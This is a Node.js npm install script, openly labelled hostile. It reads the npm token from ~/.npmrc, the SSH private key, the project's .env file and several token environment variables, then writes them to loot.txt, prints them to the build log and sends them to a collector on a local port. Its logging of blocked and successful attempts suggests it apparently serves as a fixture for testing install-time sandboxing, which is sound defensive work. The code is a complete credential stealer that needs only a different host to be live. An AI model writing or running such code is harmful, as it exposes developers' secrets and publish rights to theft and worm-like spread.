// A hostile install script that steals credentials: the npm token in
// ~/.npmrc (publish rights: the worm's way to spread), an SSH key, the
// project's .env and any token in the environment. What it reads it prints
// (build logs are often public), keeps in ./loot.txt and sends to the
// collector, whose port setup.sh wrote into ./collector.json.
const fs = require("fs");
const net = require("net");
const os = require("os");
const path = require("path");

// The project: above the first node_modules of its own path (npm's layout
// and pnpm's store alike).
const project = __dirname.slice(0, __dirname.indexOf(`${path.sep}node_modules${path.sep}`));
const { port } = JSON.parse(fs.readFileSync(path.join(__dirname, "collector.json"), "utf8"));
const attempts = [];
const loot = [];
function steal(name, target, fn) {
  try {
    const value = fn(target);
    if (value) {
      loot.push(`${name}: ${value}`);
      attempts.push({ name, target, result: "done" });
    } else {
      attempts.push({ name, target, result: "empty" });
    }
  } catch (e) {
    attempts.push({ name, target, result: "refused", error: e.code || String(e) });
  }
}

const read = (t) => fs.readFileSync(t, "utf8").trim();
steal("read ~/.npmrc", path.join(os.homedir(), ".npmrc"), read);
steal("read ~/.ssh/id_rsa", path.join(os.homedir(), ".ssh", "id_rsa"), read);
steal("read the project's .env", path.join(project, ".env"), read);
for (const v of ["NPM_TOKEN", "NODE_AUTH_TOKEN", "GITHUB_TOKEN"])
  steal(`env ${v}`, v, (name) => process.env[name]);

fs.writeFileSync(path.join(__dirname, "loot.txt"), loot.join("\n"));
for (const line of loot) console.log(`evil-secrets: stole ${line}`);

const socket = net.connect({ host: "127.0.0.1", port }, () => socket.end(`evil-secrets\n${loot.join("\n")}\n`));
socket.setTimeout(3000, () => socket.destroy(Object.assign(new Error("timeout"), { code: "ETIMEDOUT" })));
socket.on("close", () => {
  attempts.push({ name: "send to the collector", target: `127.0.0.1:${port}`,
                  result: socket.bytesWritten > 0 ? "done" : "refused", error: socket.lastError });
  fs.writeFileSync(path.join(__dirname, "attempts.json"), JSON.stringify(attempts, null, 1));
  for (const a of attempts)
    console.log(`evil-secrets: ${a.name} (${a.target}): ${a.result}${a.error ? " " + a.error : ""}`);
});
socket.on("error", (e) => { socket.lastError = e.code || String(e); });
